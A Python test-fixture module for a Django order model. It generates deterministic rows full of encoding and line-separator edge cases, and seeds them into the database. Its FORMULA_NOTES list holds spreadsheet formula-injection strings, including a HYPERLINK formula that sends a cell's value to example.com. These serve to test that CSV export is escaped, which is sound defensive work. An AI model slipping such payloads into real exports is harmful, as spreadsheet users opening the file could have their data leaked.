"""Orders for the tests: each row a pure function of its id, the same on every database.

Among them every value that a line-based consumer or an encoder gets wrong:
each line separator there is (CR, LF, CRLF, U+0085, U+2028, U+2029) in text
and inside JSON, emoji and other non-ASCII text, quotes and backslashes,
nulls, zero, negative and the largest amounts, whole seconds and fractions of
them, and texts a spreadsheet would run as formulas. A test may so say which rows
it expects without reading them back.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from decimal import Decimal
from hashlib import blake2b
from itertools import islice
from typing import Any

from django.core.management.color import no_style
from django.db import connection, connections, transaction

from .models import Order, Status

__all__ = ["COLUMNS", "FORMULA_NOTES", "order", "orders", "seed"]

COLUMNS = (
    "id", "customer", "email", "amount", "quantity", "created_at", "paid", "note", "data",
    "status",
)  # fmt: skip

#: (name, the start of the e-mail address).
CUSTOMERS = [
    ("Ana Lima", "ana.lima"),
    ("Björn Ågren", "bjorn"),
    ("Chloé Dubois", "chloe"),
    ("Dmitri Волков", "dmitri"),
    ("Eun-ji 김", "eunji"),
    ("Grace O'Brien", "grace"),
    ("Hiro 佐藤", "hiro"),
    ('Ïsolde "Izzy" Ng', "isolde"),
    ("Mariana Núñez", "mariana"),
    ("Zoë 🦊 Back\\slash", "zoe"),
]
#: Notes that cut a record in two for whoever splits lines naively.
TRICKY_NOTES = [
    "line one\nline two",
    "carriage\rreturn",
    "windows\r\nline end",
    "unicode line\u2028separator",
    "paragraph\u2029separator",
    "next line\u0085(NEL)",
    "all of them: \r \n \r\n \u0085 \u2028 \u2029 end",
    'quotes " and \\ backslash, emoji 📦🚚✅ and tab\there',
]
PLAIN_NOTES = ["leave at the door", "gift wrap", "déjà vu", "fragile: 易碎", "call first"]
#: Notes a spreadsheet would run as a formula if a CSV gave them as they are.
FORMULA_NOTES = [
    '=HYPERLINK("http://example.com/?leak="&A2,"Click me")',
    "+1+2",
    "-3+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
]
#: Each order's status (a choice field's stored values).
STATUSES = [status.value for status in Status]
#: Amounts at the edges of Decimal(12, 2): nothing, a cent, a refund, the largest.
EDGE_AMOUNTS = [Decimal("0.00"), Decimal("0.01"), Decimal("-12.50"), Decimal("9999999999.99")]
EDGE_QUANTITIES = [0, 2**31 - 1]
TAGS = ["red", "blue", "green", "xl", "sale", "new", "größe", "🏷"]
START = dt.datetime(2024, 1, 1, tzinfo=dt.UTC)
#: Seconds between two orders: 50,000 orders span most of January 2024, 200,000 to May.
SPACING = 61
#: Fields whose Python values a database driver takes as they are.
PLAIN_TYPES = {"BigAutoField", "CharField", "IntegerField", "BooleanField", "TextField"}


def _digits(n: int) -> Iterator[int]:
    """An endless supply of pseudo-random numbers for order ``n`` (take with ``% k``)."""
    value = int.from_bytes(blake2b(n.to_bytes(8, "little"), digest_size=64).digest(), "little")
    while True:
        value, low = divmod(value, 1 << 24)
        yield low


def order(n: int) -> tuple[Any, ...]:
    """Order ``n`` (``n`` >= 1) as a tuple of ``COLUMNS``."""
    d = _digits(n)
    customer, local = CUSTOMERS[next(d) % len(CUSTOMERS)]
    amount_roll, quantity_roll = next(d) % 100, next(d) % 200
    if amount_roll == 0:
        amount = EDGE_AMOUNTS[n % len(EDGE_AMOUNTS)]
    else:
        amount = Decimal(100 + next(d) % 9_999_900).scaleb(-2)  # 1.00 to 99,999.99
    quantity = EDGE_QUANTITIES[n % 2] if quantity_roll == 0 else 1 + quantity_roll % 20
    # Whole seconds every 7th order (isoformat then drops the fraction); a half now and then.
    micro = 0 if n % 7 == 0 else 500_000 if n % 11 == 0 else next(d) % 1_000_000
    created_at = START + dt.timedelta(seconds=SPACING * n, microseconds=micro)
    note_roll = next(d) % 100
    if note_roll < 30:
        note = None
    elif note_roll < 50:
        note = TRICKY_NOTES[next(d) % len(TRICKY_NOTES)]
    elif note_roll < 53:
        note = FORMULA_NOTES[next(d) % len(FORMULA_NOTES)]
    else:
        note = PLAIN_NOTES[next(d) % len(PLAIN_NOTES)]
    message_roll = next(d) % 50
    data = {
        "sku": f"SKU-{next(d) % 5000:05d}",
        "tags": [TAGS[next(d) % len(TAGS)], TAGS[next(d) % len(TAGS)]],
        "weight_kg": (next(d) % 20_000) / 8,  # exact in binary: 0.125 steps
        "gift": {
            "wrap": message_roll < 5,
            "message": TRICKY_NOTES[message_roll % len(TRICKY_NOTES)] if message_roll < 5 else None,
        },
    }
    return (
        n,
        customer,
        f"{local}.{n}@example.com",
        amount,
        quantity,
        created_at,
        next(d) % 10 < 7,
        note,
        data,
        STATUSES[next(d) % len(STATUSES)],
    )


def orders(count: int, first: int = 1) -> Iterator[tuple[Any, ...]]:
    """Orders ``first`` to ``count``."""
    return (order(n) for n in range(first, count + 1))


def seed(count: int, keep: int = 0) -> None:
    """Make the orders 1 to ``count``: replace every order after the first ``keep`` (all of
    them by default) by orders ``keep + 1`` to ``count``. COPY on PostgreSQL, executemany
    elsewhere."""
    with transaction.atomic():
        Order.objects.filter(pk__gt=keep).delete()
        if connection.vendor == "postgresql":
            _copy(count, keep + 1)
        else:
            _insert(count, keep + 1)
        with connection.cursor() as cursor:
            for sql in connection.ops.sequence_reset_sql(no_style(), [Order]):
                cursor.execute(sql)


def _copy(count: int, first: int) -> None:
    from psycopg.types.json import Jsonb

    table = connection.ops.quote_name(Order._meta.db_table)
    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(f"COPY {table} ({', '.join(COLUMNS)}) FROM STDIN") as copy,
    ):
        for row in orders(count, first):
            copy.write_row([Jsonb(value) if isinstance(value, dict) else value for value in row])


def _insert(count: int, first: int, batch: int = 5_000) -> None:
    """executemany of values the model's fields prepare (bulk_create took four times as long)."""
    db = connections[Order.objects.db]
    fields = [Order._meta.get_field(name) for name in COLUMNS]
    prepare = [
        None if field.get_internal_type() in PLAIN_TYPES else field.get_db_prep_save
        for field in fields
    ]
    quote = db.ops.quote_name
    sql = (
        f"INSERT INTO {quote(Order._meta.db_table)} ({', '.join(quote(f.column) for f in fields)})"
        f" VALUES ({', '.join(['%s'] * len(fields))})"
    )
    rows = orders(count, first)
    with db.cursor() as cursor:
        while chunk := list(islice(rows, batch)):
            cursor.executemany(sql, [_prepared(row, prepare, db) for row in chunk])


def _prepared(row: tuple[Any, ...], prepare: list[Any], db: Any) -> list[Any]:
    return [value if p is None else p(value, db) for p, value in zip(prepare, row, strict=True)]
